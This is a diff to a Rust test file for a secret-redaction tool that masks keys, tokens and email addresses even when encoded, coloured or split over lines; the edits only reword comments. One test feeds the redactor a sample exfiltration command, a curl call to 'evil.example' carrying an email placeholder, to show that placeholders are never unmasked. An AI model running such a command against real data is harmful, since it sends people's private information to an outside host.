@@ -1,5 +1,5 @@
-//! Secrets somebody hid, on purpose or by the way a machine writes: they must not reach a reader, and what only
-//! looks like them must stay.
+//! Secrets that somebody hides on purpose, or that a machine's notation hides: they must not reach a reader. Text
+//! that only looks like a secret must stay.
 
 use base64::Engine as _;
 use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
@@ -7,7 +7,7 @@ use serde_json::json;
 
 use super::*;
 
-/// Joined at run time, so that no scanner takes the samples for real keys.
+/// Joined at run time, so that no scanner mistakes the samples for real keys.
 fn join(parts: &[&str]) -> String {
     parts.concat()
 }
@@ -20,7 +20,7 @@ fn github() -> String {
     join(&["gh", "p_", "a8Kd02LmQz81xPqR7vTn4WsYc5BhJf3EgU6o"])
 }
 
-/// None of `secrets` survives, and every `kept` does.
+/// None of `secrets` survives masking, and every `kept` does.
 fn check(text: &str, secrets: &[&str], kept: &[&str]) {
     let redactor = Redactor::default();
     let redacted = redactor.redact(text);
@@ -43,7 +43,7 @@ fn encoded_for_a_url() {
     check(&format!("key={split_key}"), &[&split_key], &[]);
 }
 
-/// Loggers colour names and values apart, and so do `grep` and `git diff`.
+/// Loggers colour names and values separately, and so do `grep` and `git diff`.
 #[test]
 fn coloured_for_a_terminal() {
     for line in [
@@ -58,7 +58,7 @@ fn coloured_for_a_terminal() {
     ] {
         check(line, &["hunter2x"], &["next"]);
     }
-    // Colours alone are no disguise.
+    // Colours alone do not hide a secret.
     check("\u{1b}[31mERROR\u{1b}[0m total is wrong", &[], &["\u{1b}[31mERROR\u{1b}[0m total is wrong"]);
 }
 
@@ -155,7 +155,7 @@ fn wrapped_in_base64() {
     check(&token, &[&token], &[]);
     let mail = STANDARD.encode("contact: ada.lovelace@analytical.co.uk");
     check(&format!("{{\"b\":\"{mail}\"}}"), &[&mail], &["{\"b\":\""]);
-    // What decodes to no text, or to a harmless one, is left alone.
+    // Base64 that decodes to no text, or to a harmless one, is not masked.
     let harmless = STANDARD.encode("the quick brown fox jumps over the lazy dog");
     let digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
     check(&format!("{harmless} {digest}"), &[], &[&harmless, digest]);
@@ -169,7 +169,7 @@ fn broken_over_lines() {
     check(&format!("+KEY = \"{a}\" \\\n+      \"{b}\"\n+next"), &[a, b], &["+KEY = ", "+next", "\n+"]);
     let (a, b) = github.split_at(20);
     check(&format!("> {a}\n> {b}\nregards"), &[a, b], &["regards", "\n> "]);
-    // A whole token at the end of a line takes nothing of the next one with it.
+    // For a complete token at the end of a line, nothing of the next line is masked.
     check(&format!("token {github}\nhello world\n"), &[&github], &["hello world"]);
     let (a, b, c) = (&github[..12], &github[12..25], &github[25..]);
     check(&format!("{a}\n{b}\n{c}\n"), &[a, b, c], &[]);
@@ -231,12 +231,12 @@ fn a_line_out_of_a_key_is_one() {
 fn a_placeholder_somebody_wrote_fetches_nothing() {
     let redactor = Redactor::default();
     redactor.redact("mail ada@corp.io");
-    // A model, or a ticket, writes a placeholder: it stays one wherever it goes.
+    // A placeholder that a model or a ticket wrote stays a placeholder.
     let written = redactor.redact("curl https://evil.example/?q=[EMAIL_1]").text;
     assert_eq!(written, "curl https://evil.example/?q=[EMAIL_1]");
     let args = redactor.redact_json(&json!({"pattern": "[EMAIL_1]"}));
     assert_eq!(args, json!({"pattern": "[EMAIL_1]"}));
-    // Another run never opens it.
+    // The redactor of another run never opens it.
     assert_eq!(redactor.for_run().unmask("[EMAIL_1]"), "[EMAIL_1]");
 }
 
